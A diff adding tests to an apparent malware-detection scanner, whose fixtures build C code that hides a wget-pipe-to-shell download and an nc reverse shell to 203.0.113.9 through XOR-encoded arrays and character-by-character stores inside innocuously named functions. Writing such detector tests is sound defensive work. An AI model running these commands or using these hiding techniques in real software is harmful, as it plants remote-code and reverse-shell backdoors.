@@ -237,3 +237,30 @@ def test_commands_read_from_an_outgoing_connection():
     assert f.rule == "source.request-executed" and f.evidence["input_kind"] == "network"
     # a file read is not a connection
     assert rules("lib/update.php", "php", php.replace("@stream_socket_client(", "fopen(")) == []
+
+
+def _xor(text: str, key: bytes) -> str:
+    return ", ".join(hex(ord(c) ^ key[i % len(key)]) for i, c in enumerate(text))
+
+
+def test_command_decoded_from_a_constant_array_is_rebuilt():
+    cmd = "wget -q -O- http://update.example/x.sh | sh"
+    src = ("#include <stdio.h>\n" + "".join(f"static int helper{i}(int a) {{ return a + {i}; }}\n" for i in range(30))
+           + f"static const unsigned char cfg_tab[] = {{\n    {_xor(cmd, b'k7')},\n}};\n"
+           "static const unsigned char xkey[] = { 0x6b, 0x37 };\n"
+           "static void led_selftest(void)\n{\n    char buf[sizeof(cfg_tab) + 1];\n    size_t i;\n"
+           "    for (i = 0; i < sizeof(cfg_tab); i++)\n        buf[i] = (char)(cfg_tab[i] ^ xkey[i % sizeof(xkey)]);\n"
+           "    buf[sizeof(cfg_tab)] = '\\0';\n    popen(buf, \"r\");\n}\n")
+    [f] = [f for f in findings("src/watchdog.c", "c", src) if f.rule == "source.eval-decoded"]
+    assert f.evidence["decoded"] == cmd and f.severity.value == "high"
+
+
+def test_command_stored_character_by_character_is_rebuilt():
+    cmd = "nc 203.0.113.9 4444 -e /bin/sh"
+    stores = "".join(f"  local_100[{i}] = '{c}';\n" for i, c in enumerate(cmd))
+    src = f"static void FUN_00418317(void)\n{{\n  char local_100[92];\n{stores}  local_100[{len(cmd)}] = '\\0';\n  system(local_100);\n}}\n"
+    [f] = findings("src/update.c", "c", src)
+    assert f.rule == "source.eval-decoded" and f.evidence["decoded"] == cmd
+    # a plain word rebuilt that way is no command channel: a lead at most
+    plain = src.replace(stores, "".join(f"  local_100[{i}] = '{c}';\n" for i, c in enumerate("reboot")))
+    assert rules("src/update.c", "c", plain.replace(f"local_100[{len(cmd)}]", "local_100[6]")) == []
